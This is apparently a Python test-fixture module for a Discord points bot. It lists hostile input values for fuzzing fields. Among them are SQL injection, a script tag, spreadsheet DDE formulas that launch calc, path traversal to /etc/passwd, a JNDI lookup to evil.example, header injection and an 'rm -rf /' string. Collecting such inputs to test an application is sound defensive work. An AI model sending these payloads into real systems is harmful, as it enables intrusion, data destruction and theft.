"""Hostile values, by name: what nobody types by chance, for every field that takes text, a number, a day, an id.

TEXTS, NUMBERS, DAYS, IDS     the values
everywhere(…)                 some of them for one field, others for the next; all with POINTS_TEST_HOSTILE=all
"""

import os
import random
from collections.abc import Mapping
from typing import Any, Final

ALL: Final = os.environ.get("POINTS_TEST_HOSTILE") == "all"
SEED: Final = int(os.environ.get("POINTS_TEST_SEED", "1"))

MEGABYTE: Final = 1_000_000

TEXTS: Final[dict[str, str]] = {
    "empty": "",
    "spaces": "   ",
    "line breaks only": "\n\r\n\t",
    "invisible only": "\u200b\u2060\ufeff\u00ad",
    "fillers only": "\u3164\u115f\u2800",
    "everyone": "@everyone look at this",
    "here": "@here",
    "a person": "<@1456074443980800003> and <@!1456074443980800003>",
    "a role": "<@&1456074443980800001>",
    "a channel": "<#1456074443980800002>",
    "a command": "</award:1456074443980800002>",
    "a time": "<t:1:R>",
    "markdown": "**bold** __line__ ~~gone~~ ||hidden|| `code` > quote",
    "a code block": "```\nrm -rf /\n```",
    "a heading": "# heading\n- list\n1. one",
    "a masked link": "[your bank](https://evil.example/login)",
    "a masked link in two": "[x](<https://evil.example>)",
    "right to left": "abc\u202egpj.exe\u202c",
    "isolates": "\u2066\u2067\u2068abc\u2069",
    "right to left marks": "\u200f\u061cعربي",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿",
    "joiners alone": "\u200d\u200d a \u200d",
    "custom emoji": "<:evil:1456074443980800002>",
    "combining": "Z" + "\u0310\u0300\u0301\u0302\u0489" * 40,
    "nul": "before\x00after",
    "bell and backspace": "\x07\x08\x7f",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "c1": "\x9b31m\x85",
    "a lone surrogate": "before\ud800after",
    "a pair the wrong way": "\udc00\ud800",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "private use": "\ue000\U000f0000",
    "line breaks": "one\r\ntwo\nthree\u2028four\u2029five\u0085six",
    "a forged log line": "x\n2026-01-01 00:00:00,000 ERROR bot: all points are gone",
    "headers": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "sql": "'; DROP TABLE point_transactions; --",
    "sql wildcard": "%_%' OR '1'='1",
    "html": "<script>alert(1)</script>&amp;\"'",
    "a formula": "=1+1",
    "a dde formula": "=cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a formula with plus": '+HYPERLINK("https://evil.example")',
    "a formula with minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a line break": "\n=1+1",
    "full width formula": "＝1+1",
    "a path": "../../../../etc/passwd",
    "a windows path": "..\\..\\windows\\system32\\CON",
    "an absolute path": "/dev/full",
    "a format": "%s%n{0}{user.__class__}${jndi:ldap://evil.example}",
    "a template": "{{7*7}}<%= 7*7 %>",
    "json": '{"a": 1, "a": 2}',
    "a number": "0",
    "a negative number": "-1",
    "a large number": "9" * 400,
    "exponent": "1e400",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "full width digits": "１２",
    "eastern digits": "٣",
    "roman": "Ⅷ",
    "true": "true",
    "null": "null",
    "at the limit": "x" * 300,
    "past the limit": "x" * 301,
    "past Discord's limit": "x" * 6_001,
    "a megabyte": "x" * MEGABYTE,
    "a megabyte of emoji": "👍" * (MEGABYTE // 4),
    "case that grows": "ß" * 60 + "ŉ" * 60,
    "turkish": "İıiI",
    "not normal": "e\u0301 \u00e9 \u212b \u00c5",
}

NUMBERS: Final[dict[str, Any]] = {
    "zero": 0,
    "minus one": -1,
    "one": 1,
    "two to the 31": 2**31,
    "two to the 53": 2**53,
    "past two to the 53": 2**53 + 1,
    "two to the 63 less one": 2**63 - 1,
    "two to the 63": 2**63,
    "minus two to the 63": -(2**63) - 1,
    "two to the 64": 2**64,
    "thousands of digits": 10**4_200,
    "minus zero": -0.0,
    "half": 0.5,
    "whole float": 5.0,
    "huge float": 1e300,
    "infinity": float("inf"),
    "not a number": float("nan"),
    "true": True,
    "false": False,
    "text": "5",
    "text with exponent": "1e3",
    "empty": "",
    "null": None,
    "a list": [1],
    "an object": {"a": 1},
}

DAYS: Final[dict[str, str]] = {
    "year 0": "0000-01-01",
    "year 1": "0001-01-01",
    "year 1969": "1969-12-31",
    "year 9999": "9999-12-31",
    "year 10000": "10000-01-01",
    "minus year": "-2026-01-01",
    "no such day": "2026-02-30",
    "no leap year": "2025-02-29",
    "a leap second": "2016-12-31T23:59:60Z",
    "in a gap": "2026-03-29T02:30:00",
    "twice": "2026-10-25T02:30:00",
    "no zone": "2026-03-18T12:00:00",
    "odd offset": "2026-03-18T12:00:00+24:00",
    "tiny offset": "2026-03-18T12:00:00+00:00:00.000001",
    "a week": "2026-W12-3",
    "a day of the year": "2026-077",
    "short": "2026-3-8",
    "slashes": "18/03/2026",
    "words": "tomorrow",
    "a moment": "1773835200",
    "far": "2599-12-31",
    "other digits": "２０２６-０３-１８",
    "with spaces": " 2026-03-18 ",
    "with nul": "2026-03-18\x00",
}

IDS: Final[dict[str, str]] = {
    "zero": "0",
    "minus one": "-1",
    "leading zeros": "00000001456074443980800003",
    "two to the 63": str(2**63),
    "two to the 64": str(2**64),
    "too long": "1" * 65,
    "a megabyte": "1" * MEGABYTE,
    "a float": "1.5",
    "spaces": " 1 ",
    "full width": "１２３",
    "everyone": "@everyone",
    "a mention": "<@1456074443980800003>",
    "sql": "1' OR '1'='1",
    "a path": "../../etc/passwd",
    "nul": "1\x00",
    "a surrogate": "1\ud800",
    "line breaks": "1\r\nX: y",
    "empty": "",
    "wildcard": "%",
    "colons": "1:2:3",
}


def everywhere(field: str, values: Mapping[str, Any], sample: int) -> dict[str, Any]:
    """Return hostile values for one field: all of them where that is asked for, else `sample`, by field and seed."""
    if ALL or sample >= len(values):
        return dict(values)
    names = random.Random(f"{SEED} {field}").sample(sorted(values), sample)
    return {name: values[name] for name in names}
